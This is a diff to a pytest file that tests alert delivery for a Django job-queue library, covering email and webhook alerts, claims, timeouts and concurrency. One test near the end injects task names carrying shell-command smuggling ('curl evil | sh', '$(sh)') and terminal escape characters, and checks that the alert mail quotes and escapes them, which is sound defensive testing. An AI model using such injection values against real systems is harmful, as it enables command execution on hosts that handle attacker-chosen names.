@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import logging
 import re
+import socket
+import threading
 from collections.abc import Callable, Iterator
 from contextlib import closing
 from datetime import timedelta
@@ -11,6 +13,7 @@ from typing import Any
 
 import pytest
 from django.core import mail
+from django.core.mail.backends.base import BaseEmailBackend
 
 from django_graphile_worker import conf, pause
 from django_graphile_worker.routing import Place, place_of
@@ -18,6 +21,7 @@ from django_graphile_worker.setting_types import AlertSettings, alerts
 from django_graphile_worker.sql import alerts as sql_alerts
 from django_graphile_worker.telemetry import alert_round
 from django_graphile_worker.telemetry import alerts as telemetry_alerts
+from django_graphile_worker.telemetry.alert_delivery import deliver
 from django_graphile_worker.telemetry.alert_round import LONGEST_ROUND, Round, read_facts, run_round
 from django_graphile_worker.worker.database.connection import Database
 from tests.support.admins import admins
@@ -157,10 +161,60 @@ def test_many_failures__are_one_mail_that_says_what_to_do(run: Run) -> None:
     (message,) = mail.outbox
     assert message.subject == "[Django] 30 jobs of send failed permanently: OSError"
     assert message.to == ["ann@shop.example"]
-    for line in ("OSError: password=••••••", 'graphile_worker errors --task "send"', '"IGNORE": ["send"]'):
+    for line in ("OSError: password=••••••", "graphile_worker errors --task send", '"IGNORE": ["send"]'):
         assert line in message.body
     run("mail_admins")
     assert len(mail.outbox) == 1
+
+
+def fail_in_tasks(prefix: str, tasks: int, number: int, name: str = "'OSError'") -> None:
+    """Make tasks whose jobs failed; ``name`` is SQL, in which ``m`` numbers the jobs of a task."""
+    execute(
+        "insert into {schema}._private_tasks (identifier)"
+        " select %s || n from generate_series(1, %s) as n on conflict do nothing",
+        [prefix, tasks],
+    )
+    execute(
+        "insert into {schema}._private_jobs (task_id, payload, attempts, max_attempts, last_error)"
+        f" select id, '{{}}', 1, 1, {name} || ': no' from {{schema}}._private_tasks, generate_series(1, %s) as m"
+        " where identifier like %s || '%%'",
+        [number, prefix],
+    )
+
+
+def test_new_failures_among_hundreds_of_old_kinds__are_told(run: Run) -> None:
+    fail_in_tasks("old", 250, 1)
+    run("mail_admins")
+    assert mail.outbox[0].subject.startswith("[Django] 250 alerts: ")
+    fail_in_tasks("new", 5, 101)
+    run("mail_admins")
+    assert mail.outbox[1].subject.startswith("[Django] 5 alerts: 101 jobs of new")
+    fail_in_tasks("names", 1, 230, "translate(m::text, '0123456789', 'abcdefghij') || 'Error'")
+    run("mail_admins")
+    assert mail.outbox[2].subject.startswith("[Django] 230 alerts: ")
+    run("mail_admins")
+    assert len(mail.outbox) == 3
+
+
+def test_more_kinds_of_errors_than_are_judged__are_said_once_and_none_is_over(
+    run: Run, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(alert_round, "MAX_ERRORS", 10)
+    monkeypatch.setattr(telemetry_alerts, "QUIET_ROUNDS", 0)
+    fail_in_tasks("told", 9, 1)
+    run("mail_admins")
+    fail_in_tasks("later", 15, 1)
+    fail_in_tasks("large", 1, 2)
+    for _ in range(3):
+        run("mail_admins")
+    assert mail.outbox[1].subject.startswith("[Django] ")
+    assert "2 jobs of large1 failed permanently" in mail.outbox[1].body
+    bodies = "".join(str(each.body) for each in mail.outbox)
+    assert "Over: " not in bodies
+    assert bodies.count("There are more than 10 kinds of errors") == 1
+    execute("delete from {schema}._private_jobs")
+    run("mail_admins")
+    assert "Over: There are more than 10 kinds of errors" in mail.outbox[-1].body
 
 
 def test_judge_that_died_before_it_stored__has_another_tell_again(
@@ -168,8 +222,15 @@ def test_judge_that_died_before_it_stored__has_another_tell_again(
 ) -> None:
     make_failed_job()
     run({"TO": "mail_admins", "IGNORE": ["*"]})
-    with monkeypatch.context() as killed:
-        killed.setattr(sql_alerts, "store", lambda *args, **kwargs: None)
+    store = sql_alerts.store
+
+    def die_at_the_end(*args: Any, is_over: bool, **kwargs: Any) -> bool:
+        if is_over:
+            raise KeyboardInterrupt
+        return store(*args, is_over=is_over, **kwargs)
+
+    with monkeypatch.context() as killed, pytest.raises(KeyboardInterrupt):
+        killed.setattr(sql_alerts, "store", die_at_the_end)
         run("mail_admins")
     assert run("mail_admins", is_due=False) is None
     ((free_in,),) = execute("select extract(epoch from free_at - now())::float8 from {schema}._private_alerts")
@@ -177,6 +238,48 @@ def test_judge_that_died_before_it_stored__has_another_tell_again(
     run("mail_admins")
     run("mail_admins")
     assert len(mail.outbox) == 2
+
+
+def test_judge_that_died_at_a_destination__has_another_tell_that_one_and_what_waits(
+    run: Run, hook: Webhook, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def die_at_the_webhook(message: Any, destination: str, place: Place) -> str:
+        if destination == hook.url:
+            raise KeyboardInterrupt
+        return deliver(message, destination, place)
+
+    to = ["mail_admins", hook.url, "task:page_oncall"]
+    make_failed_job("send", error="OSError: refused")
+    with monkeypatch.context() as killed, pytest.raises(KeyboardInterrupt):
+        killed.setattr(f"{alert_round.__name__}.deliver", die_at_the_webhook)
+        run(to)
+    # What happened is over before another judges, and is told nevertheless.
+    execute("delete from {schema}._private_jobs")
+    done = run(to)
+    assert done is not None
+    assert [name for name, _ in done.told] == ["http://127.0.0.1/…", "task:page_oncall"]
+    assert [each["subject"] for each in hook.posted] == ["1 job of send failed permanently: OSError"]
+    assert len(mail.outbox) == 1
+
+
+def test_judge_whose_claim_has_expired__tells_nothing(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+    read = alert_round.read_facts
+
+    def read_slowly(*args: Any) -> Any:
+        execute("update {schema}._private_alerts set claimed_by = 'next'")
+        return read(*args)
+
+    monkeypatch.setattr(alert_round, "read_facts", read_slowly)
+    make_failed_job()
+    assert run("mail_admins") == Round([], [])
+    assert mail.outbox == []
+
+
+def test_claim_of_before_the_clock_went_back__is_free(run: Run) -> None:
+    run({"TO": "mail_admins", "INTERVAL": 600})
+    assert run({"TO": "mail_admins", "INTERVAL": 600}, is_due=False) is None
+    execute("update {schema}._private_alerts set free_at = now() + interval '605 seconds'")
+    assert run({"TO": "mail_admins", "INTERVAL": 600}, is_due=False) is not None
 
 
 def test_state_of_another_release__counts_as_none(run: Run) -> None:
@@ -189,8 +292,8 @@ def test_state_of_another_release__counts_as_none(run: Run) -> None:
 
 def test_judge_that_comes_back_too_late__stores_nothing(database: Database) -> None:
     with database.cursor() as cursor:
-        sql_alerts.claim(cursor, "slow", schema=database.schema, seconds=0.0)
-        assert sql_alerts.claim(cursor, "next", schema=database.schema, seconds=60.0)
+        sql_alerts.claim(cursor, "slow", schema=database.schema, seconds=0.0, longest=60.0)
+        assert sql_alerts.claim(cursor, "next", schema=database.schema, seconds=60.0, longest=60.0)
         assert not sql_alerts.store(cursor, "slow", {"a": 1}, schema=database.schema, seconds=0.0)
         assert sql_alerts.read(cursor, schema=database.schema).state == {}
 
@@ -249,7 +352,7 @@ def test_many_alerts__are_one_short_message(run: Run) -> None:
 def test_webhook_without_an_answer__is_logged_without_its_address(
     run: Run, hook: Webhook, answer: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
 ) -> None:
-    monkeypatch.setattr("django_graphile_worker.telemetry.alert_delivery.WEBHOOK_TIMEOUT", 0.05)
+    monkeypatch.setattr("django_graphile_worker.telemetry.alert_delivery.SERVER_TIMEOUT", 0.05)
     hook.answers.clear()
     make_failed_job()
     done = run(hook.url if answer == "a server that hangs" else "http://127.0.0.1:9/services/s3cret")
@@ -257,6 +360,66 @@ def test_webhook_without_an_answer__is_logged_without_its_address(
     ((name, why),) = done.failed
     assert "s3cret" not in name + why + caplog.text
     assert why.startswith("TimeoutError" if answer == "a server that hangs" else "URLError: [Errno 111]")
+
+
+def test_webhook_that_takes_too_long__holds_up_neither_the_others_nor_the_next_round(
+    run: Run, hook: Webhook, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("django_graphile_worker.telemetry.alert_delivery.LONGEST_DELIVERY", 0.1)
+    hook.answers.clear()
+    to = [hook.url, "mail_admins"]
+    make_failed_job()
+    for why in ("it took longer than 0.1 s", "the delivery of an earlier round has not ended"):
+        done = run(to)
+        assert done is not None
+        assert done.failed == [("http://127.0.0.1/…", why)]
+    assert (len(hook.posted), len(mail.outbox)) == (1, 1)
+    hook.answers.set()
+    for thread in threading.enumerate():
+        if thread.name == "graphile-worker-alert":
+            thread.join()
+    monkeypatch.undo()
+    done = run(to)
+    assert done is not None
+    assert [name for name, _ in done.told] == ["http://127.0.0.1/…"]
+
+
+def test_mail__has_a_timeout_where_the_backend_has_one(run: Run, settings: Any) -> None:
+    make_failed_job()
+    with closing(socket.create_server(("127.0.0.1", 0))) as server:
+        settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
+        settings.EMAIL_HOST, settings.EMAIL_PORT = server.getsockname()
+        settings.EMAIL_TIMEOUT = None
+        with pytest.MonkeyPatch.context() as patched:
+            patched.setattr("django_graphile_worker.telemetry.alert_delivery.SERVER_TIMEOUT", 0.05)
+            patched.setattr("django_graphile_worker.telemetry.alert_delivery.LONGEST_DELIVERY", 2.0)
+            done = run("mail_admins")
+    assert done is not None
+    assert [why.endswith("timed out") for _, why in done.failed] == [True]
+    settings.EMAIL_BACKEND = f"{__name__}.BackendWithoutTimeout"
+    done = run("mail_admins")
+    assert done is not None
+    assert [name for name, _ in done.told] == ["mail_admins"]
+
+
+class BackendWithoutTimeout(BaseEmailBackend):
+    def __init__(self, fail_silently: bool = False) -> None:
+        super().__init__(fail_silently=fail_silently)
+
+    def send_messages(self, email_messages: Any) -> int:
+        return len(email_messages)
+
+
+def test_names_that_anybody_can_choose__are_neither_commands_nor_control_characters(run: Run) -> None:
+    make_failed_job('a"; curl evil | sh; "', error="\x1b[2JOSError: \x1b[31mred\u202e")
+    make_failed_job("b\x1b[2J'$(sh)", error="KeyError: 'x'")
+    run("mail_admins")
+    (message,) = mail.outbox
+    assert (message.subject + str(message.body).replace("\n", "")).isprintable()
+    body = str(message.body)
+    assert "errors --task 'a\"; curl evil | sh; \"'\n" in body
+    assert "errors --task 'b\\x1b[2J'\"'\"'$(sh)'\n" in body
+    assert "\\x1b[31mred\\u202e" in body
 
 
 def test_task__gets_a_job_with_the_alert(run: Run) -> None:
